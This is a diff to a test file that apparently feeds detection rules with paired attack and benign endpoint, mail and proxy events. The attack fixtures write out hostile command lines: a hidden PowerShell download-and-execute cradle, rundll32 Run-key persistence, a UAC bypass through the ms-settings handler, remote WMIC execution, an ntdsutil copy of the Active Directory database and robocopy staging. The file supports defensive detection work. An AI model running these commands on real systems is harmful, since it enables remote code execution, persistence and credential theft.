@@ -6,10 +6,13 @@ import {
   firewallFlow,
   logon,
   mail,
+  proxy,
   security,
   security4688,
   sysmon1,
   sysmon10,
+  sysmon11,
+  sysmon13,
   zeekDns,
 } from './sigma-fixtures/ministryEvents.js';
 
@@ -45,6 +48,208 @@ const system7045 = (minutes: number, code: string): EcsEvent => {
 };
 
 const cases: Readonly<Record<string, () => Case>> = {
+  'Inbound Mail With an Archive Attachment': () => ({
+    attack: [mail(0, 'inbound', ['Delegation_List.zip']), mail(1, 'inbound', ['photos.7z'])],
+    benign: [mail(2, 'inbound', ['report.pdf']), mail(3, 'outbound', ['minutes.zip'])],
+  }),
+  'Hidden PowerShell Download Cradle': () => ({
+    attack: [
+      sysmon1(5, 'ws042', {
+        image: PS,
+        cmd: 'powershell.exe -NoP -W Hidden -Exec Bypass -C "iwr https://cdn.example/a.js -UseBasicParsing|iex"',
+        parent: 'C:\\Windows\\explorer.exe',
+      }),
+    ],
+    benign: [
+      sysmon1(6, 'ws042', {
+        image: PS,
+        cmd: 'powershell.exe -Command "Get-Service | Where-Object {$_.Status -eq \'Stopped\'}"',
+        parent: 'C:\\Windows\\explorer.exe',
+      }),
+      sysmon1(7, 'ws042', {
+        image: PS,
+        cmd: 'powershell.exe -W Hidden -File C:\\Scripts\\inventory.ps1',
+        parent: 'C:\\Windows\\System32\\svchost.exe',
+      }),
+    ],
+  }),
+  'Rundll32 Loads a DLL From a User-Writable Folder': () => ({
+    attack: [
+      sysmon1(8, 'ws042', {
+        image: 'C:\\Windows\\System32\\rundll32.exe',
+        cmd: '"C:\\Windows\\System32\\rundll32.exe" C:\\Users\\a\\AppData\\Roaming\\Microsoft\\TeamsHelper.dll,DllRegisterServer',
+        parent: PS,
+      }),
+    ],
+    benign: [
+      sysmon1(9, 'ws042', {
+        image: 'C:\\Windows\\System32\\rundll32.exe',
+        cmd: 'rundll32.exe C:\\Windows\\System32\\shell32.dll,Control_RunDLL',
+        parent: 'C:\\Windows\\explorer.exe',
+      }),
+    ],
+  }),
+  'Run Key Points to a Program in a User-Writable Folder': () => ({
+    attack: [
+      sysmon13(
+        10,
+        'ws042',
+        'C:\\Windows\\System32\\rundll32.exe',
+        'HKU\\S-1-5-21-1-2-3-1129\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\EdgeUpdateCore',
+        'C:\\Windows\\System32\\rundll32.exe "C:\\Users\\a\\AppData\\Roaming\\Microsoft\\TeamsHelper.dll",DllRegisterServer',
+      ),
+    ],
+    benign: [
+      sysmon13(
+        11,
+        'ws042',
+        'C:\\Users\\a\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe',
+        'HKU\\S-1-5-21-1-2-3-1129\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDrive',
+        '"C:\\Users\\a\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe" /background',
+      ),
+    ],
+  }),
+  'UAC Bypass Through the ms-settings Handler': () => ({
+    attack: [
+      sysmon13(
+        12,
+        'ws042',
+        'C:\\Windows\\System32\\rundll32.exe',
+        'HKU\\S-1-5-21-1-2-3-1129\\Software\\Classes\\ms-settings\\Shell\\Open\\command\\(Default)',
+        'C:\\Windows\\System32\\rundll32.exe x.dll,DllRegisterServer',
+      ),
+    ],
+    benign: [
+      sysmon13(
+        13,
+        'ws042',
+        'C:\\Windows\\explorer.exe',
+        'HKU\\S-1-5-21-1-2-3-1129\\Software\\Classes\\.txt\\OpenWithList\\a',
+        'notepad.exe',
+      ),
+    ],
+  }),
+  'Discovery Commands Started by Rundll32 or a Script Host': () => ({
+    attack: [
+      sysmon1(14, 'ws042', {
+        image: 'C:\\Windows\\System32\\nltest.exe',
+        cmd: 'nltest /dclist:mec.go.example',
+        parent: 'C:\\Windows\\System32\\rundll32.exe',
+      }),
+    ],
+    benign: [
+      sysmon1(15, 'adm01', {
+        image: 'C:\\Windows\\System32\\nltest.exe',
+        cmd: 'nltest /dclist:mec.go.example',
+        parent: 'C:\\Windows\\System32\\cmd.exe',
+      }),
+    ],
+  }),
+  'WMIC Creates a Process on a Remote Host': () => ({
+    attack: [
+      sysmon1(16, 'fs01', {
+        image: 'C:\\Windows\\System32\\wbem\\WMIC.exe',
+        cmd: 'wmic /node:dc01 /user:MEC\\adm process call create "cmd.exe /Q /c C:\\Windows\\Temp\\x.exe"',
+        parent: 'C:\\Windows\\svchostx.exe',
+      }),
+    ],
+    benign: [
+      sysmon1(17, 'adm01', {
+        image: 'C:\\Windows\\System32\\wbem\\WMIC.exe',
+        cmd: 'wmic /node:fs01 logicaldisk get size,freespace',
+        parent: 'C:\\Windows\\System32\\cmd.exe',
+      }),
+    ],
+  }),
+  'Active Directory Database Copied With ntdsutil IFM': () => ({
+    attack: [
+      sysmon1(18, 'dc01', {
+        image: 'C:\\Windows\\System32\\ntdsutil.exe',
+        cmd: 'ntdsutil.exe "ac i ntds" "ifm" "create full C:\\Windows\\Temp\\ifm" q q',
+        parent: 'C:\\Windows\\System32\\wbem\\WmiPrvSE.exe',
+      }),
+    ],
+    benign: [
+      sysmon1(19, 'dc01', {
+        image: 'C:\\Windows\\System32\\ntdsutil.exe',
+        cmd: 'ntdsutil "activate instance ntds" "files" "info" q q',
+        parent: 'C:\\Windows\\System32\\cmd.exe',
+      }),
+    ],
+  }),
+  'Executable Written Into ProgramData': () => ({
+    attack: [
+      sysmon11(20, 'fs01', 'C:\\Windows\\svchostx.exe', 'C:\\ProgramData\\PerfLogsX\\ra.exe'),
+      sysmon11(21, 'fs01', 'C:\\Windows\\svchostx.exe', 'C:\\ProgramData\\PerfLogsX\\wermgrx.exe'),
+    ],
+    benign: [
+      sysmon11(
+        22,
+        'fs01',
+        'C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18\\MsMpEng.exe',
+        'C:\\ProgramData\\Microsoft\\Windows Defender\\Definition Updates\\x\\mpengine.dll',
+      ),
+      sysmon11(
+        23,
+        'fs01',
+        'C:\\Windows\\explorer.exe',
+        'C:\\Windows\\System32\\drivers\\etc\\x.exe',
+      ),
+    ],
+  }),
+  'Robocopy Collects Documents Into a Local Folder': () => ({
+    attack: [
+      sysmon1(24, 'fs01', {
+        image: 'C:\\Windows\\System32\\Robocopy.exe',
+        cmd: 'robocopy D:\\Shares\\IC C:\\ProgramData\\PerfLogsX\\d *.docx *.pdf /S',
+        parent: 'C:\\Windows\\svchostx.exe',
+      }),
+    ],
+    benign: [
+      sysmon1(25, 'fs01', {
+        image: 'C:\\Windows\\System32\\Robocopy.exe',
+        cmd: 'robocopy D:\\Shares \\\\bak01\\backup\\shares /MIR',
+        parent: 'C:\\Windows\\System32\\cmd.exe',
+      }),
+    ],
+  }),
+  'PowerShell User Agent Fetching From the Internet': () => ({
+    attack: [
+      proxy(
+        26,
+        '10.10.1.42',
+        'cdn.example',
+        'Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.22621.4111',
+      ),
+    ],
+    benign: [
+      proxy(
+        27,
+        '10.10.1.42',
+        'www.nikkei.com',
+        'Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:135.0) Gecko/20100101 Firefox/135.0',
+      ),
+    ],
+  }),
+  'Frequent Requests From One Host to an Uncommon Domain': () => ({
+    attack: Array.from({ length: 11 }, (_, i) =>
+      proxy(
+        30 + i * 2,
+        '10.10.1.42',
+        'syncdelivery.live',
+        'Mozilla/5.0 (Windows NT 10.0; Win64; x64; Trident/7.0; rv:11.0) like Gecko',
+      ),
+    ),
+    benign: [
+      ...Array.from({ length: 20 }, (_, i) =>
+        proxy(30 + i * 2, '10.10.2.77', 'teams.microsoft.com', 'Mozilla/5.0 Teams/25.1.0.0'),
+      ),
+      ...Array.from({ length: 5 }, (_, i) =>
+        proxy(30 + i * 10, '10.10.2.77', 'www.nikkei.com', 'Mozilla/5.0 Chrome/133.0.0.0'),
+      ),
+    ],
+    group: { 'source.ip': '10.10.1.42', 'url.domain': 'syncdelivery.live', event_count: 11 },
+  }),
   'Inbound Mail With Macro Document or Shortcut Attachment': () => ({
     attack: [
       mail(0, 'inbound', ['Invoice_0309.docm']),
